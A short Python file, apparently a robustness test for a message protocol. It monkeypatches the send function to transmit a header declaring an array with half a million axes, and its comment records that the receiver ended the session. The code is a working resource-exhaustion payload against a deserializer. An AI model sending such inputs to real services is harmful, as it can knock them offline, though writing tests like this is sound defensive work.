# Answer with an array of half a million axes.
# verdict: ended its session

import json
import session


def bomb(connection, frame, seconds=None):
    head = json.dumps({"array": "bool", "shape": [9] * 500_000}).encode()
    connection.sendall((len(head) + 4).to_bytes(4, "big") + len(head).to_bytes(4, "big") + head)


session.send = bomb
